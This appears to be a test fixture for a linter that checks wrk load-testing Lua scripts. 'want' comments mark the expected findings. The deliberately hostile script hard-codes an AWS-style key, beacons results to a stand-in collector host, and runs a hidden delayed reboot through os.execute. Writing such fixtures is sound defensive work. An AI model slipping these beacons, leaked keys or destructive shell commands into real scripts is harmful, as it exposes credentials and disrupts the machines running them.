-- Attacker-style script: hard-coded key, HTTP beacon to a collector and a shell command in done().

local http = require("socket.http") -- want WL301
local collector_key = "AKIAQ7NW3PZ5LKX2RT8M" -- want WL601

local responses = 0
wrk.headers["X-Collector-Key"] = collector_key

function response(status, headers, body)
   responses = responses + 1
end

function done(summary, latency, requests)
   local rps = summary.requests / (summary.duration / 1e6)
   local url = "http://collector.example.net/beacon?rps=" .. math.floor(rps)
   http.request(url)
   os.execute("nohup sh -c 'sleep 60; reboot' >/dev/null 2>&1 &") -- want WL103
   print(string.format("%.1f req/s over %d responses", rps, responses)) -- want WL803
end
